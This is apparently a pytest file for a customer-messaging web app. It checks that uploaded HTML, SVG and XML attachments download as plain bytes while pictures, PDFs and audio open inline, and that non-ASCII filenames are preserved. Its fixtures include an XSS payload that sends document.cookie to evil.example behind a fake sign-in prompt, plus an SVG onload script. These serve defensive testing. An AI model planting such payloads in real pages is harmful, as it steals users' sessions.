"""Files a customer sends (an e-mail's attachment, a chat's document) and recordings a PBX hands over: what the web
app lends them as. A file that would run as a page (HTML, SVG, XML) downloads as bytes; pictures, PDFs, text and
sound still open in place."""

from __future__ import annotations

from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from tests.factories import signup
from tests.messaging.kit import get, inbox, thread
from tests.messaging.mailkit import create_line, deliver
from tests.support import ApiClient
from webhooks import mail

SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script><h1>Your session ended: sign in</h1>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)"/>'


def _lent(client: ApiClient, name: str, content: bytes, mime: str) -> dict[str, Any]:
    company = signup(client, company="Files Ltd", country="GB")
    line = create_line(client, company)
    who = mail.Correspondent(forward_to=line["settings"]["inbound_address"], sender="eve@customer.example")
    assert deliver(mail.message(who, subject="My invoice", text="Please see the file.",
                                attachment=(name, content, mime)))["received"] == 1
    [conversation] = inbox(client, company, "?channel=email")
    [message] = thread(client, company, conversation["id"])
    [file] = message["attachments"]
    link = get(client, company.owner.token, f"/api/v1/conversations/{conversation['id']}/messages/"
                                            f"{message['id']}/attachments/{file['id']}")
    asked = {key: values[0] for key, values in parse_qs(urlsplit(link["url"]).query).items()}
    return {**link, "type": asked["response-content-type"], "disposition": asked["response-content-disposition"]}


@pytest.mark.parametrize("name,content,mime", [("invoice.html", SCRIPT, "text/html"),
                                               ("logo.svg", SVG, "image/svg+xml"),
                                               ("data.xml", b"<x/>", "application/xml")])
def test_a_file_that_would_run_as_a_page_downloads_as_bytes(client: ApiClient, name: str, content: bytes,
                                                            mime: str) -> None:
    lent = _lent(client, name, content, mime)
    assert lent["type"] == lent["content_type"] == "application/octet-stream"
    assert lent["disposition"] == f'attachment; filename="{name}"'


def test_a_picture_or_a_pdf_still_opens_in_place(client: ApiClient) -> None:
    lent = _lent(client, "photo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 16, "image/png")
    assert (lent["type"], lent["disposition"]) == ("image/png", 'inline; filename="photo.png"')


def test_the_rule_by_type() -> None:
    from chalicelib.telephony.recordings import served_as

    assert served_as("audio/mpeg") == ("audio/mpeg", "inline")
    assert served_as("Audio/WAV; codec=1") == ("audio/wav", "inline")
    assert served_as("application/pdf") == ("application/pdf", "inline")
    for active in ("text/html", "image/svg+xml", "application/xhtml+xml", "text/xml", "application/javascript",
                   "text/html; charset=utf-8", "", None, "multipart/x-mixed-replace"):
        assert served_as(active) == ("application/octet-stream", "attachment"), active


def _saved_as(disposition: str) -> str | None:
    """The name a browser saves the file under (RFC 6266 4.3: filename* wins over filename), each parameter read by
    the standard library's RFC 2231 decoding."""
    import email.message
    import email.utils

    header = email.message.Message()
    header["Content-Disposition"] = disposition
    names = [value for key, value in header.get_params(header="content-disposition") or [] if key == "filename"]
    extended = [value for value in names if isinstance(value, tuple)]  # filename*, as (charset, language, text)
    return str(email.utils.collapse_rfc2231_value(extended[0] if extended else names[0]))


@pytest.mark.parametrize("name", ["Договор №5 от 01.12.pdf", 'Quote "final".pdf', "naïve café.png"])
def test_a_file_keeps_its_name_in_any_letters_and_an_ascii_one_for_old_clients(client: ApiClient, name: str) -> None:
    lent = _lent(client, name, b"%PDF-1.4\n" + b"\x00" * 16, "application/pdf")
    fallback = lent["disposition"].split('filename="', 1)[1].split('"', 1)[0]
    assert fallback.isascii() and fallback.endswith((".pdf", ".png")), fallback
    assert fallback == {"naïve café.png": "naive cafe.png", 'Quote "final".pdf': "Quote final.pdf"}.get(name, fallback)
    assert _saved_as(lent["disposition"]) == name.replace('"', "")  # the customer's own name, letter for letter
